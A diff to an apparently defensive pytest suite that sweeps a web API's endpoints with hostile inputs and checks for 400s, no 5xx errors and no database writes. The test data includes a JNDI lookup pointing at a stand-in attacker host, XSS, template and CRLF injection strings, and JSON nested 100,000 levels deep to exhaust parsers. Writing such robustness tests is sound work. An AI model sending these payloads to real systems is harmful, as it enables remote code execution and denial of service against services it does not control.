@@ -117,14 +117,17 @@ PATH_TRICKS = [
 ]
 NUL_VALUES = ["\x00", "abc\x00def"]
 ODD_TEXT = [
-    "A" * 10_000,
+    "A" * 10_000,  # more than gunicorn lets through in a request line (4 KB)
     "Ωμέγα-😀-設備-\u202e",
     "${jndi:ldap://attacker.example/a}",
     "<script>alert(1)</script>",
     "{{7*7}}",
     "\r\nSet-Cookie: injected=1",
 ]
-HOSTILE = INJECTIONS + PATH_TRICKS + NUL_VALUES + ODD_TEXT
+# Query values beyond what any column or index entry holds, and deep nesting as text: for a
+# server behind something that lets longer request lines through.
+LONG_TEXT = ["A" * 200_000, "[" * 2_000 + "]" * 2_000]
+HOSTILE = INJECTIONS + PATH_TRICKS + NUL_VALUES + ODD_TEXT + LONG_TEXT
 # Values some typed parameters accept (a number, a page size): only "no 5xx, a JSON answer,
 # a 400 names its field" holds for all of them.
 EDGES = ["99999999999999999999", "-1", "1e309", "NaN", " "]
@@ -510,6 +513,24 @@ BODY_SWEEPS = [pytest.param(operation, id=str(operation)) for operation in OPERA
 # Raw JSON text: what a JSON encoder sends for odd bytes, and numbers no double can hold.
 HOSTILE_JSON_STRINGS = ['"\\u0000"', '"a\\u0000b"', '"\\ud800"', '"x\\udfffy"', '"\\ud83d"']
 HOSTILE_JSON_NUMBERS = ["1e309", "-1e400", "1" + "0" * 400, str(2**64), "-" + str(2**63 + 1)]
+# Far longer than any column holds or an index entry can (about 2,700 bytes).
+LONG_JSON_STRINGS = [json.dumps("Aé" * 100_000, ensure_ascii=False)]
+
+
+def deep_array(depth: int) -> str:
+    return "[" * depth + "]" * depth
+
+
+def deep_object(depth: int) -> str:
+    return '{"a": ' * depth + "1" + "}" * depth
+
+
+# Nested past what Python's JSON parser recurses through (100,000 levels: the parser fails
+# wherever it is), and within it (500 levels: parsed, then too deep for any code walking it
+# recursively, which may depend on where it is).
+UNPARSABLY_DEEP = {"an array nested 100,000 deep": deep_array(100_000),
+                   "an object nested 100,000 deep": deep_object(100_000)}
+PARSABLY_DEEP = {"an array nested 500 deep": deep_array(500), "an object nested 500 deep": deep_object(500)}
 
 
 def hostile_bodies(properties: dict[str, dict], *, base: str = "") -> list[tuple[str, str]]:
@@ -519,30 +540,70 @@ def hostile_bodies(properties: dict[str, dict], *, base: str = "") -> list[tuple
     bodies = []
     nested = '{"a": [' + ", ".join(HOSTILE_JSON_NUMBERS + HOSTILE_JSON_STRINGS) + "]}"
     for name in [*properties, "unknown_property"]:
-        for value in [*HOSTILE_JSON_STRINGS, *HOSTILE_JSON_NUMBERS, nested]:
+        for value in [*HOSTILE_JSON_STRINGS, *HOSTILE_JSON_NUMBERS, *LONG_JSON_STRINGS, nested]:
             bodies.append((f"{name}={value[:12]}", "{" + base + json.dumps(name) + ": " + value + "}"))
+    return bodies
+
+
+def deep_bodies(properties: dict[str, dict], *, base: str = "") -> list[tuple[str, str]]:
+    """(what, JSON text): deeply nested arrays and objects as the whole body and as the value
+    of every documented property."""
+    bodies = [(f"body: {what}", value) for what, value in {**UNPARSABLY_DEEP, **PARSABLY_DEEP}.items()]
+    for name in properties:
+        for what, value in PARSABLY_DEEP.items():
+            bodies.append((f"{name}: {what}", "{" + base + json.dumps(name) + ": " + value + "}"))
     return bodies
 
 
 @pytest.mark.parametrize("operation", BODY_SWEEPS)
 def test_hostile_json_bodies(client, world, operation):
-    """NUL and lone surrogates (which PostgreSQL cannot hold) and numbers beyond any double or
-    64-bit integer in every property of every JSON body: a 4xx or a 2xx, never a 5xx."""
+    """NUL and lone surrogates (which PostgreSQL cannot hold), numbers beyond any double or
+    64-bit integer and strings longer than any column in every property of every JSON body:
+    a 4xx or a 2xx, never a 5xx. Arrays and objects nested 100,000 deep as the body, and 500
+    deep (which the parser reads) as the body or in any property: a 400, whatever the
+    endpoint, and nothing written."""
     query = {"key": world.device_key} if operation.device_key and not operation.user else {}
     url = world.url(operation) + ("?" + urlencode(query) if query else "")
     headers = {} if query else world.headers
     # A device sample's errors are a bare JSON string (the reference's format); give it its
     # type so that each value is judged, not the missing type.
     base = '"type": "DeviceMonitoring", ' if query else ""
+    properties = _json_body_properties(operation)
     problems = []
-    for what, body in hostile_bodies(_json_body_properties(operation), base=base):
-        response = client.open(url, method=operation.method, headers=headers, data=body.encode(),
-                               content_type="application/json")
-        found = general_problems(response, csv_asked=False)
-        if found:
-            problems.append(f"{what}: {response.status_code} {response.get_data(as_text=True)[:200]!r}: "
-                            f"{', '.join(found)}")
+
+    def sweep(bodies: list[tuple[str, str]], *, expected_status: int | None = None) -> None:
+        for what, body in bodies:
+            response = client.open(url, method=operation.method, headers=headers, data=body.encode(),
+                                   content_type="application/json")
+            found = general_problems(response, csv_asked=False)
+            if expected_status is not None and response.status_code != expected_status:
+                found.append(f"expected {expected_status}")
+            if found:
+                problems.append(f"{what}: {response.status_code} {response.get_data(as_text=True)[:200]!r}: "
+                                f"{', '.join(found)}")
+
+    before = database_snapshot()
+    sweep(deep_bodies(properties, base=base), expected_status=400)
+    assert_unchanged(before, database_snapshot())  # refused before anything is written
+    sweep(hostile_bodies(properties, base=base))
     assert not problems, f"{operation}:\n{report(problems)}"
+
+
+def test_a_deep_body_is_a_400_on_the_token_and_group_endpoints(client, world):
+    """A 100,000-deep array made any endpoint reading a JSON body raise RecursionError (a 500
+    with a traceback in the log), the anonymous token endpoint included."""
+    for url, headers in (("/api/v1/users/token/", {}), ("/api/v1/controller/group/", world.headers)):
+        for body in [*UNPARSABLY_DEEP.values(), *PARSABLY_DEEP.values()]:
+            response = client.post(url, headers=headers, data=body, content_type="application/json")
+            assert response.status_code == 400, (url, response.get_data(as_text=True)[:200])
+            assert response.get_json() == {"non_field_errors": ["Invalid JSON body: nested more than 64 levels deep."]}
+
+
+def test_unstorable_characters_in_token_requests_are_a_400(client):
+    for body in ('{"username": "\\ud800", "password": "secret-pass"}', '{"username": "a", "password": "\\u0000"}'):
+        response = client.post("/api/v1/users/token/", data=body, content_type="application/json")
+        assert response.status_code == 400, body
+        assert set(response.get_json()) <= {"username", "password"}, response.get_json()
 
 
 # --- what the sweep found ----------------------------------------------------------------------------
